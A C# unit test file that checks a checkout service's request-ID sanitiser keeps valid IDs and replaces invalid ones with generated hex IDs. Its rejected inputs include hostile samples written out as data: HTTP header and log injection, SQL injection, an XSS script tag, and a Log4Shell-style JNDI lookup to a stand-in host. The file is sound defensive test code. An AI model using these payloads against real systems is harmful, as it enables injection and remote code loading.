using Checkout.ServiceDefaults.Telemetry;

namespace Checkout.Tests.Unit;

public sealed class RequestIdTests
{
    [Theory]
    [InlineData("a")]
    [InlineData("4bf92f3577b34da6a3ce929d0e0e4736")]
    [InlineData("Web-1_checkout.7")]
    public void valid_id_is_kept(string offered) => Assert.Equal(offered, RequestId.From(offered));

    [Fact]
    public void id_longer_than_64_characters_is_replaced()
    {
        var longest = new string('x', 64);

        Assert.Equal(longest, RequestId.From(longest));
        Assert.Matches("^[0-9a-f]{32}$", RequestId.From(longest + "x"));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("two words")]
    [InlineData("forged\r\nSet-Cookie: admin=1")]
    [InlineData("forged\nlog line")]
    [InlineData("nul\0")]
    [InlineData("\u001b[31mred")]
    [InlineData("ïd")]
    [InlineData("\u202eright to left")]
    [InlineData("🙂")]
    [InlineData("'; DROP TABLE orders; --")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("${jndi:ldap://evil}")]
    [InlineData("a,b")]
    public void invalid_id_is_replaced(string? offered) => Assert.Matches("^[0-9a-f]{32}$", RequestId.From(offered));

    [Fact]
    public void generated_ids_are_unique() => Assert.NotEqual(RequestId.From(null), RequestId.From(null));
}
